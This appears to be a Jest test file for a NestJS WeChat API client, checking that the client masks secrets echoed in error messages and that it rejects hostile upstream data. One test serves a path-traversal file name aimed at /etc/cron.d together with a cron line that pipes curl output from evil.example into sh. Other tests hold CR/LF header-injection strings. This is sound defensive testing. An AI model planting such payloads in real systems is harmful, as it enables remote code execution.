import { type IncomingMessage, type ServerResponse } from 'node:http';
import { Readable } from 'node:stream';
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
import { Test, type TestingModule } from '@nestjs/testing';
import {
  MediaClient,
  TokenService,
  WeChatApiClient,
  WeChatApiError,
  WeChatArgumentError,
  WeChatModule,
} from '../../src/index.js';
import { type WeChatEmulator } from '../../src/testing/index.js';
import { APP_SECRET, emulatorOptions, startEmulator } from '../support/wechat-test-app.js';
import { RecordingLogger } from '../support/lines-logger.js';
import { type LocalServer, sendJson, startWeChatFront } from './local-servers.js';

const RID = 'rid: 6b07dd90-bb44c511-025abb92';

function queryOf(req: IncomingMessage): URLSearchParams {
  return new URL(req.url!, 'http://wechat.invalid').searchParams;
}

describe('strings from upstream', () => {
  let emulator: WeChatEmulator;
  let front: LocalServer;
  let moduleRef: TestingModule;
  let logger: RecordingLogger;
  // Hostile answers of WeChat's host, by path; other paths reach the emulator.
  let hostile: Record<string, (req: IncomingMessage, res: ServerResponse) => void>;

  beforeEach(async () => {
    emulator = await startEmulator();
    hostile = {};
    // Looked up at each request: a path answers hostilely from the moment a test sets it.
    front = await startWeChatFront(emulator.url, hostile);
    logger = new RecordingLogger();
    moduleRef = await Test.createTestingModule({
      imports: [
        WeChatModule.forRoot(
          emulatorOptions(emulator, { apiBaseUrl: front.url, retry: { attempts: 1 } }),
        ),
      ],
    })
      .setLogger(logger)
      .compile();
    await moduleRef.init();
  });

  afterEach(async () => {
    await moduleRef.close();
    await front.close();
    await emulator.close();
  });

  it.each([
    ['"45009" (a string) as the error it names', '45009', { errcode: 45009 }],
    ['"busy" (not a number) as a transport error', 'busy', { name: 'WeChatTransportError' }],
  ])('takes an errcode of %s, never as success', async (_label, errcode, failure) => {
    await moduleRef.get(TokenService).getAccessToken();
    hostile['/cgi-bin/user/info'] = (_req, res) => sendJson(res, { errcode, errmsg: 'odd' });
    await expect(
      moduleRef.get(WeChatApiClient).get('/cgi-bin/user/info', { openid: 'o_alice_0001' }),
    ).rejects.toMatchObject(failure);
  });

  it('masks the access_token and the AppSecret an errmsg echoes, in errors and logs', async () => {
    hostile['/cgi-bin/token'] = (req, res) =>
      sendJson(res, { errcode: -1, errmsg: `busy, secret=${queryOf(req).get('secret')} ${RID}` });
    const tokenFailure = await moduleRef
      .get(TokenService)
      .getAccessToken()
      .catch((e: unknown) => e);
    expect(tokenFailure).toBeInstanceOf(WeChatApiError);
    delete hostile['/cgi-bin/token'];

    const token = await moduleRef.get(TokenService).getAccessToken();
    hostile['/cgi-bin/user/info'] = (req, res) =>
      sendJson(res, {
        errcode: 40003,
        errmsg:
          `invalid openid hint: access_token=${queryOf(req).get('access_token')}` +
          `&secret=${encodeURIComponent(APP_SECRET)} ${RID}`,
      });
    const apiFailure = (await moduleRef
      .get(WeChatApiClient)
      .get('/cgi-bin/user/info', { openid: 'o_alice_0001' })
      .catch((e: unknown) => e)) as WeChatApiError;
    expect(apiFailure).toBeInstanceOf(WeChatApiError);
    expect(apiFailure).toMatchObject({
      errcode: 40003,
      errmsg: 'invalid openid hint: access_token=***&secret=***',
      rid: '6b07dd90-bb44c511-025abb92',
    });

    expect(logger.lines.some((line) => line.includes('busy, secret=***'))).toBe(true);
    const errors = [tokenFailure, apiFailure].map(
      (e) => `${(e as Error).message} ${(e as Error).stack}`,
    );
    for (const text of [...logger.lines, ...errors, JSON.stringify(apiFailure)]) {
      expect(text).not.toContain(APP_SECRET);
      expect(text).not.toContain(token);
    }
  });

  it('reduces a download’s file name to a safe base name', async () => {
    hostile['/cgi-bin/media/get'] = (_req, res) => {
      res.writeHead(200, {
        'Content-Type': 'image/jpeg',
        'Content-Disposition': 'attachment; filename="../../../../etc/cron.d/evil"',
      });
      res.end('* * * * * root curl evil.example | sh');
    };
    const download = await moduleRef.get(MediaClient).downloadTemporary('someMediaId');
    expect(download.filename).toBe('evil');
    for await (const chunk of download.stream) expect(String(chunk)).toMatch(/root/);
  });

  it.each([
    ['file.contentType', { filename: 'a.jpg', contentType: 'image/jpeg\r\nX-Injected: 1' }],
    ['file.filename', { filename: 'a.jpg"\r\nContent-Type: text/html\r\n\r\n<x>' }],
    ['file.filename', { filename: 'a"b.jpg' }],
    ['file.contentType', { filename: 'a.jpg', contentType: 'image/"jpeg"' }],
  ])('refuses CR, LF and quotes in %s before anything is sent', async (argument, file) => {
    const upload = moduleRef
      .get(MediaClient)
      .uploadTemporary('image', { ...file, body: () => Readable.from([Buffer.alloc(10)]) });
    const refusal = await upload.catch((e: unknown) => e);
    expect(refusal).toBeInstanceOf(WeChatArgumentError);
    expect(refusal).toMatchObject({ argument, kind: 'invalid-argument' });
    expect(emulator.callCount('/cgi-bin/media/upload')).toBe(0);
  });
});
